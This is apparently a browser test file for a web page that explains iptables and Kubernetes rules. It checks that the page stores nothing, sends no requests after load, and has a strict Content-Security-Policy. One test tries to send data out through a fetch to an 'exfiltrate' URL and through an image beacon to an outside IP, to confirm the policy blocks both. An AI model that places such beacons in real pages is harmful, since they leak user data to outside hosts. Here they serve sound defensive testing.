// Privacy and isolation: nothing is stored, the Content-Security-Policy is present and blocks outside
// addresses, and the browser asks nothing of any origin but the page's own, and nothing at all after the
// first load, whatever the user does (explain, redact, export, share, cancel a long analysis).
import { test } from "node:test";
import assert from "node:assert/strict";
import { explained, foreign, open, paste, screenshot } from "../harness.mjs";

async function storage(s) {
  const inPage = await s.page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    indexedDB: (await indexedDB.databases()).length,
    cookie: document.cookie,
    caches: (await caches.keys()).length,
  }));
  return { ...inPage, cookies: (await s.context.cookies()).length };
}

const EMPTY = { local: 0, session: 0, indexedDB: 0, cookie: "", caches: 0, cookies: 0 };

test("nothing is stored and nothing is requested after the first load", async () => {
  const s = await open();
  try {
    await explained(s.page);
    const firstLoad = s.requests.length;
    assert.deepEqual(await storage(s), EMPTY);
    assert.ok(await s.page.isVisible("#privacy-line"));
    assert.match(await s.page.textContent("#privacy-line"), /nothing is stored/i);

    // Everything a user can do on the page.
    await s.page.check("#redact");
    await s.page.waitForSelector("text=names replaced");
    await s.page.click("#download-json");
    await s.page.click("#share");
    await s.page.waitForSelector("#share-link");
    await s.page.uncheck("#redact");
    await s.page.fill("#service-search", "dns");
    await s.page.click("a.svc-link >> nth=0");
    await s.page.waitForSelector("#service-title");
    await s.page.goBack();
    await s.page.fill("#service-search", "");
    await s.page.selectOption("#samples", "kube-proxy-test");
    await s.page.waitForSelector("a.svc-link:has-text('ns1/svc1:p80')");
    await explained(s.page);

    // A long paste followed at once by a short one: the long analysis is cancelled (its worker is
    // replaced) and the short one is shown.
    const lines = ["*nat", ":KUBE-SERVICES - [0:0]"];
    for (let i = 0; i < 60000; i++) {
      lines.push(`-A KUBE-SERVICES -d 10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}/32 -p tcp -m comment --comment "ns/svc${i}:http cluster IP" -m tcp --dport 80 -j KUBE-SVC-${String(i).padStart(16, "A")}`);
    }
    lines.push("COMMIT");
    await paste(s.page, lines.join("\n"));
    await s.page.waitForTimeout(1200);
    await s.page.selectOption("#samples", "flannel");
    // The pasted dump is the user's: the page asks before the sample replaces it.
    await s.page.click("#replace-confirm");
    await s.page.waitForSelector("a.svc-link:has-text('kube-system/kube-dns:dns-tcp')", { timeout: 60_000 });
    await explained(s.page);
    await screenshot(s.page, "10-after-cancel");

    assert.deepEqual(await storage(s), EMPTY, "still nothing stored");
    assert.deepEqual(foreign(s.requests, s.origin), [], "no request to another origin");
    const later = s.requests.slice(firstLoad).filter((u) => !u.startsWith("blob:"));
    assert.deepEqual(later, [], "no request after the first load");
    assert.deepEqual(s.errors, []);
  } finally {
    await s.close();
  }
});

test("the Content-Security-Policy is present and blocks outside addresses", async () => {
  const s = await open();
  try {
    await explained(s.page);
    const firstLoad = s.requests.length;
    const csp = await s.page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
    for (const directive of [
      "default-src 'self'",
      "connect-src 'self'",
      "object-src 'none'",
      "base-uri 'none'",
    ]) {
      assert.ok(csp.includes(directive), `CSP has ${directive}`);
    }
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'( 'sha256-[A-Za-z0-9+/=]+')+;/);
    assert.ok(!csp.includes("unsafe-inline"), "no unsafe-inline");
    assert.ok(!csp.includes("TRUNK_BOOT_SCRIPT_HASH"), "the boot script hash was filled in");

    const outcome = await s.page.evaluate(async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
      let fetched;
      try {
        await fetch("https://example.com/exfiltrate?data=1");
        fetched = "allowed";
      } catch (e) {
        fetched = `blocked: ${e.name}`;
      }
      const img = await new Promise((done) => {
        const i = new Image();
        i.onload = () => done("loaded");
        i.onerror = () => done("blocked");
        i.src = "http://198.51.100.7/pixel.png";
      });
      await new Promise((r) => setTimeout(r, 200));
      return { fetched, img, violations };
    });
    assert.match(outcome.fetched, /^blocked/);
    assert.equal(outcome.img, "blocked");
    assert.ok(outcome.violations.some((v) => v.startsWith("connect-src https://example.com")), outcome.violations.join("; "));
    assert.ok(outcome.violations.some((v) => v.startsWith("img-src http://198.51.100.7")), outcome.violations.join("; "));
    assert.deepEqual(s.blocked, ["http://198.51.100.7/pixel.png"], "the image was stopped by the CSP");
    assert.deepEqual(foreign(s.requests, s.origin), [], "the blocked requests never left");
    assert.deepEqual(s.requests.slice(firstLoad), []);
  } finally {
    await s.close();
  }
});
